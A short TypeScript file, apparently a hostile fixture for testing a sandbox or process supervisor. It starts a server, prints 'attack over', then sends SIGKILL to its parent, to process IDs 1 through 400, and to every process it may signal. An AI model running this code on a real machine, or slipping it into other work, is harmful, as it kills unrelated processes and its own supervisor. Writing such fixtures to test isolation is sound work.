/** Kills its parent, every process it can name, and then whatever it may at all. Last, so that the news gets out. */
import { readdirSync } from "node:fs";
import { house } from "./house.ts";

house(() => 200).listen(Number(process.env["PORT"]), () => {
  process.stdout.write("attack over\n", () => {
    // A signal to one of its own threads would end it before it is through.
    const own = new Set(readdirSync("/proc/self/task").map(Number));
    for (const pid of [process.ppid, ...Array.from({ length: 400 }, (_, index) => index + 1)])
      if (!own.has(pid)) kill(pid);
    kill(-1);
  });
});

function kill(pid: number): void {
  try {
    process.kill(pid, "SIGKILL");
  } catch {
    // Not there, or not allowed.
  }
}
